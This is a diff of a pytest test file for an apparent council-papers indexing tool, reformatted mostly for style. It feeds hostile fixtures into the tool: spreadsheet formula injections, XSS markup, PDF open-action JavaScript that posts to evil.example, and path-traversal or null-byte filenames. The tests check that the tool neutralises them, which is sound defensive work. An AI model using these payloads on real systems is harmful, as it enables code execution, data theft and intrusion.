@@ -9,6 +9,7 @@
   file with a reason and the batch goes on. (Decompression bombs: tests/test_loaders.py::test_decompression_bomb
   and tests/test_pipeline.py::test_bad_inputs_are_reported_and_the_batch_goes_on.)
 """
+
 from __future__ import annotations
 
 import csv
@@ -18,35 +19,65 @@ import os
 from pathlib import Path
 
 import pytest
-
 from conftest import HashEmbedder, build_index
+from pdfgen import make_pdf
+
 from boardpapers.index.embedded import Index
 from boardpapers.index.store import Store
 from boardpapers.ingest.parse import Limits
-from pdfgen import make_pdf
 
-FORMULAS = ["=cmd|' /C calc'!A0 kestrel", "+SUM(1,2) kestrel", "-2+3 kestrel", "@SUM(A1) kestrel", "=HYPERLINK(\"http://evil.example\") kestrel"]
-MARKUP = ["<script>alert('kestrel')</script>", "<img src=x onerror=alert(2)>", "[click](javascript:alert(3))", "**kestrel** <b>bold</b>",
-          "<iframe src=\"javascript:alert(4)\"></iframe>"]
+FORMULAS = [
+    "=cmd|' /C calc'!A0 kestrel",
+    "+SUM(1,2) kestrel",
+    "-2+3 kestrel",
+    "@SUM(A1) kestrel",
+    '=HYPERLINK("http://evil.example") kestrel',
+]
+MARKUP = [
+    "<script>alert('kestrel')</script>",
+    "<img src=x onerror=alert(2)>",
+    "[click](javascript:alert(3))",
+    "**kestrel** <b>bold</b>",
+    '<iframe src="javascript:alert(4)"></iframe>',
+]
 LONG_TOKEN = "kestrel" + "x" * 19_993  # 20,000 characters, no break
 
-HOSTILE_MINUTES = "\n".join([
-    "Minutes of a meeting of the Cabinet of Kestrel Borough Council held on Monday, 6 March 2017.",
-    "", "7. KESTREL NESTING SITES", "The Cabinet considered the kestrel nesting sites report.",
-    *FORMULAS, *MARKUP, "RESOLVED: That the kestrel nesting sites be protected.", "",
-    "8. LONG REFERENCE", f"The reference {LONG_TOKEN} was read into the record.", "",
-])
+HOSTILE_MINUTES = "\n".join(
+    [
+        "Minutes of a meeting of the Cabinet of Kestrel Borough Council held on Monday, 6 March 2017.",
+        "",
+        "7. KESTREL NESTING SITES",
+        "The Cabinet considered the kestrel nesting sites report.",
+        *FORMULAS,
+        *MARKUP,
+        "RESOLVED: That the kestrel nesting sites be protected.",
+        "",
+        "8. LONG REFERENCE",
+        f"The reference {LONG_TOKEN} was read into the record.",
+        "",
+    ]
+)
 
 
 def hostile_corpus(folder: Path) -> Path:
     folder.mkdir(parents=True, exist_ok=True)
     make_pdf(
         folder / "hostile pack.pdf",
-        [["Kestrel Borough Council", "Cabinet", "Monday, 6 March 2017", "AGENDA", "1. Kestrel nesting sites",
-          "The kestrel survey was presented.", *FORMULAS[:2], *MARKUP[:3]],
-         ["2. Decision", "RESOLVED: That the kestrel survey be noted.", f"Reference {LONG_TOKEN[:3000]}"]],
+        [
+            [
+                "Kestrel Borough Council",
+                "Cabinet",
+                "Monday, 6 March 2017",
+                "AGENDA",
+                "1. Kestrel nesting sites",
+                "The kestrel survey was presented.",
+                *FORMULAS[:2],
+                *MARKUP[:3],
+            ],
+            ["2. Decision", "RESOLVED: That the kestrel survey be noted.", f"Reference {LONG_TOKEN[:3000]}"],
+        ],
         title="<script>alert('title')</script> Kestrel pack",
-        author="=HYPERLINK(\"http://evil.example\")",
+        author='=HYPERLINK("http://evil.example")',
         subject="[x](javascript:alert(5))",
         javascript="app.alert('pwned-by-open-action'); this.submitForm('http://evil.example');",
         link_uri="javascript:alert('pwned-by-link')",
@@ -111,7 +142,10 @@ def test_exports_are_formula_safe_csv_and_valid_json(hostile, tmp_path, capsys):
     idx, _ = hostile
     out_csv, out_jsonl = tmp_path / "hits.csv", tmp_path / "hits.jsonl"
     assert cli.main(["export", "kestrel nesting sites HYPERLINK calc SUM", "--format", "csv", "-o", str(out_csv), "--index", str(idx)]) == 0
-    assert cli.main(["export", "kestrel nesting sites HYPERLINK calc SUM", "--format", "jsonl", "-o", str(out_jsonl), "--index", str(idx)]) == 0
+    assert (
+        cli.main(["export", "kestrel nesting sites HYPERLINK calc SUM", "--format", "jsonl", "-o", str(out_jsonl), "--index", str(idx)])
+        == 0
+    )
     rows = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"))))
     lines = out_jsonl.read_text(encoding="utf-8").splitlines()
     assert rows and len(rows) == len(lines)
@@ -153,14 +187,17 @@ def test_app_shows_hostile_text_and_metadata_inert(hostile, monkeypatch):
 # ----------------------------------------------------------------- 7. paths and uploads
 
 
-@pytest.mark.parametrize("raw, stored", [
-    ("../../etc/passwd.pdf", "passwd.pdf"),
-    ("/etc/cron.d/job.txt", "job.txt"),
-    ("C:\\Windows\\..\\..\\boot.md", "boot.md"),
-    ("min\x00utes.pdf", "minutes.pdf"),
-    ("\u202egpj.pdf", "gpj.pdf"),
-    ("y" * 5000 + ".pdf", "y" * 116 + ".pdf"),
-])
+@pytest.mark.parametrize(
+    "raw, stored",
+    [
+        ("../../etc/passwd.pdf", "passwd.pdf"),
+        ("/etc/cron.d/job.txt", "job.txt"),
+        ("C:\\Windows\\..\\..\\boot.md", "boot.md"),
+        ("min\x00utes.pdf", "minutes.pdf"),
+        ("\u202egpj.pdf", "gpj.pdf"),
+        ("y" * 5000 + ".pdf", "y" * 116 + ".pdf"),
+    ],
+)
 def test_upload_names_are_stored_inside_the_corpus(tmp_path, raw, stored):
     from boardpapers.ui import add as uploads
 
@@ -234,8 +271,10 @@ def test_file_name_that_is_not_utf8_fails_alone(tmp_path):
 @pytest.fixture(scope="module")
 def big_pdf(tmp_path_factory):
     d = tmp_path_factory.mktemp("big")
-    pages = [[f"{p}. Highways maintenance schedule, section {p}", f"Resurfacing of road {p} is programmed for week {p % 52 + 1}."]
-             for p in range(1, 2001)]
+    pages = [
+        [f"{p}. Highways maintenance schedule, section {p}", f"Resurfacing of road {p} is programmed for week {p % 52 + 1}."]
+        for p in range(1, 2001)
+    ]
     make_pdf(d / "big.pdf", pages, title="Highways schedule")
     (d / "small.txt").write_text("Minutes of the Cabinet held on 2 May 2020.\n\n1. PARKS\nThe parks plan was approved.\n")
     return d
@@ -259,12 +298,19 @@ def test_per_file_time_and_page_limits_stop_one_file_and_the_batch_goes_on(big_p
     heavy.mkdir()
     # 1,500 dense pages: far more than 3 s of text extraction on any machine (500 of them take 7 s on the
     # 2-core dev box); the small file beside it needs milliseconds, leaving a wide margin on a loaded machine
-    make_pdf(heavy / "dense.pdf", [[f"Line {n} of page {p}: the committee noted the highways budget for ward {n * p % 97}."
-                                    for n in range(60)] for p in range(1, 1501)])
+    make_pdf(
+        heavy / "dense.pdf",
+        [
+            [f"Line {n} of page {p}: the committee noted the highways budget for ward {n * p % 97}." for n in range(60)]
+            for p in range(1, 1501)
+        ],
+    )
     (heavy / "small.txt").write_text((big_pdf / "small.txt").read_text())
     report = build_index([heavy], tmp_path / "a", emb, limits=Limits(timeout_s=3))
     assert {Path(o.path).name: (o.status, o.detail) for o in report.outcomes} == {
-        "dense.pdf": ("failed", "took longer than the per-file limit of 3 s"), "small.txt": ("ingested", "")}
+        "dense.pdf": ("failed", "took longer than the per-file limit of 3 s"),
+        "small.txt": ("ingested", ""),
+    }
     report = build_index([big_pdf], tmp_path / "b", emb, limits=Limits(max_pages=1000))
     assert report.failed[0].detail == "too many pages (2000 > limit 1000)"
     assert report.count("ingested") == 1
